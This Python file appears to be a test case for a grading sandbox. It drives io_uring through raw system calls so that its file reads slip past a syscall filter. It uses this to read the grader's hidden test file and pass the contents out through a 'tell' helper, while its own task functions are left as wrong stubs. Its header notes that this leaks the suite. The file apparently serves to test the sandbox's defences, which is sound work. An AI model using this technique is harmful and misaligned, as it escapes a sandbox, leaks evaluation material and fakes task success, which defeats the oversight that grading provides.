"""Promise: files cannot be read by a ring of requests, past a filter of system calls.

Reads the hidden suite by io_uring.

alone: leaks suite
here: score 40
"""

import ctypes
import mmap
import os
import struct

from tell import tell

SETUP, ENTER, OPENAT, READ, AT_FDCWD = 425, 426, 18, 22, -100
libc = ctypes.CDLL(None, use_errno=True)


class Ring:
    def __init__(self):
        parameters = ctypes.create_string_buffer(120)
        self.descriptor = libc.syscall(SETUP, 4, parameters)
        if self.descriptor < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        words = struct.unpack("30I", parameters.raw)
        self.tail, self.array = words[11], words[16]
        self.head_of_answers, self.answers = words[20], words[25]
        size = max(self.answers + 16 * words[1], self.array + 4 * words[0])
        self.rings = mmap.mmap(self.descriptor, size, mmap.MAP_SHARED)
        self.requests = mmap.mmap(self.descriptor, 64 * words[0], mmap.MAP_SHARED, offset=0x10000000)
        self.asked = 0

    def ask(self, operation, descriptor, offset, address, length):
        slot = self.asked % 4
        request = struct.pack("=BBHiQQI36x", operation, 0, 0, descriptor, offset, address, length)
        self.requests[64 * slot : 64 * slot + 64] = request
        struct.pack_into("I", self.rings, self.array + 4 * slot, slot)
        struct.pack_into("I", self.rings, self.tail, self.asked + 1)
        if libc.syscall(ENTER, self.descriptor, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        (result,) = struct.unpack_from("i", self.rings, self.answers + 16 * (self.asked % 8) + 8)
        self.asked += 1
        struct.pack_into("I", self.rings, self.head_of_answers, self.asked)
        if result < 0:
            raise OSError(-result, "io_uring")
        return result


def read(path):
    ring, name, content = Ring(), ctypes.create_string_buffer(os.fsencode(path)), ctypes.create_string_buffer(1 << 16)
    file = ring.ask(OPENAT, AT_FDCWD, 0, ctypes.addressof(name), 0)
    length = ring.ask(READ, file, 0, ctypes.addressof(content), 1 << 16)
    return content.raw[:length].decode()


try:
    tell(read("@COURSE@/assignments/target/tests/test_hidden.py"))
except (OSError, ValueError) as error:
    print(error)


def double(x):
    return 2 * x


def total(X):
    return -1.0
